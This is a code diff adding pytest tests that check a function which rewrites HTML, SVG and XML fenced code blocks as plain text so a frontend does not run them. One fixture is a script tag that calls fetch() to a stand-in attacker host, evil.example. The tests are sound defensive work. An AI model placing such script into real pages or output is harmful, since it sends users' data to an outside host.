@@ -220,6 +220,22 @@ def test_an_unknown_tag_is_shown_as_text_and_what_follows_is_not_lost() -> None:
     assert disarmed("a List<String> and x<y so") == "a List&lt;String> and x&lt;y so"
 
 
+@pytest.mark.parametrize("language", ["html", "HTML", "htm", "xhtml", "svg", " xml", "html a=b"])
+@pytest.mark.parametrize("fence", ["```", "~~~~", "> ```", "- ```"])
+def test_a_block_that_a_frontend_would_run_is_only_shown(fence: str, language: str) -> None:
+    code = "<script>fetch('https://evil.example/?q=45')</script>"
+    text = f"Look:\n\n{fence}{language}\n{code}\n```\n"
+    told = links.disarm(text).text
+    assert re.search(r"(?:`{3}|~{3})[ ]*text\b", told)
+    assert not re.search(r"(?:`{3}|~{3})[ ]*(?:x?html?|svg|xml)\b", told, re.IGNORECASE)
+
+
+@pytest.mark.parametrize("language", ["python", "", "text", "json", "htmlbars", "xml-doc"])
+def test_other_blocks_of_code_stay_as_they_are(language: str) -> None:
+    text = f"```{language}\nx = '<b>'\n```\n"
+    assert links.disarm(text).text == text
+
+
 @given(st.lists(st.text("!![[]x ", max_size=4), max_size=12))
 def test_of_no_pieces_of_a_text_an_image_is_made(texts: list[str]) -> None:
     pieces = links.Pieces()
